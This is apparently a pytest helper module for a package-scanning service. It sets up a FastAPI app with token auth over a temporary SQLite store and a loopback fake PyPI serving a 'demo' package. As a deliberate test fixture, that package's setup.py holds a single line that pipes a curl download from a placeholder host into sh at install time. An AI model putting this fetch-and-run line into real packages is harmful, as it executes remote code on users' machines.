"""A service over a temporary SQLite store, its tokens, and a loopback PyPI that serves one
malicious sdist."""

from __future__ import annotations

import hashlib
import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from outwork.sources import RegistryOptions
from outwork.store.results import ResultStore, open_store
from tests.analyzers.packages.helpers import sdist

pytest.importorskip("fastapi")  # the serve extra (installed by scripts/test.sh)

from fastapi.testclient import TestClient

from outwork.serve.app import Limits, create_app
from outwork.serve.auth import new_token, token_digest
from outwork.serve.runner import ScanService, ServiceOptions

PAYLOAD = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
EVIL = sdist("demo", "1.0", {"setup.py": PAYLOAD})


@dataclass
class Service:
    client: TestClient
    store: ResultStore
    service: ScanService
    root: Path
    scratch: Path
    write: str
    read: str

    def auth(self, token: str | None = None) -> dict[str, str]:
        return {"Authorization": f"Bearer {token or self.write}"}

    def wait(self, scan_id: int, timeout: float = 120) -> dict[str, object]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            scan = self.client.get(f"/v1/scans/{scan_id}", headers=self.auth()).json()
            if scan["status"] in ("done", "failed"):
                return dict(scan)
            time.sleep(0.1)
        raise AssertionError(f"scan {scan_id} did not finish")


def add_token(store: ResultStore, name: str, scope: str) -> str:
    token = new_token()
    store.add_token(name, token_digest(token), scope)
    return token


@contextmanager
def service(
    tmp: Path,
    *,
    limits: Limits | None = None,
    registry: str | None = None,
    store_at: str | None = None,
    **kwargs: object,
) -> Iterator[Service]:
    """A service whose store is a SQLite file in ``tmp``, or the database at ``store_at``."""
    root = tmp / "root"
    root.mkdir()
    store = open_store(store_at or tmp / "results.sqlite3")
    options = ServiceOptions(
        root=root,
        scratch=tmp / "scratch",
        jobs=1,
        registry=RegistryOptions(pypi_url=registry) if registry else None,
    )
    runner = ScanService(store, options)
    app = create_app(store, runner, limits=limits, **kwargs)  # type: ignore[arg-type]
    write = add_token(store, "ci", "write")
    read = add_token(store, "viewer", "read")
    try:
        with TestClient(app) as client:
            yield Service(client, store, runner, root, tmp / "scratch", write, read)
    finally:
        runner.close()
        store.close()


class _PyPI(BaseHTTPRequestHandler):
    routes: ClassVar[dict[str, bytes]] = {}

    def do_GET(self) -> None:
        body = self.routes.get(self.path)
        self.send_response(200 if body is not None else 404)
        self.end_headers()
        if body is not None:
            self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@contextmanager
def pypi() -> Iterator[str]:
    """PyPI's JSON API for ``demo`` 1.0, whose sdist runs a download at install."""
    document = {
        "info": {"name": "demo", "version": "1.0"},
        "releases": {
            "1.0": [
                {
                    "filename": "demo-1.0.tar.gz",
                    "packagetype": "sdist",
                    "url": "/files/demo-1.0.tar.gz",
                    "digests": {"sha256": hashlib.sha256(EVIL).hexdigest()},
                }
            ]
        },
        "urls": [],
    }
    _PyPI.routes = {
        "/pypi/demo/json": json.dumps(document).encode(),
        "/pypi/demo/1.0/json": json.dumps(document).encode(),
        "/files/demo-1.0.tar.gz": EVIL,
    }
    server = ThreadingHTTPServer(("127.0.0.1", 0), _PyPI)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
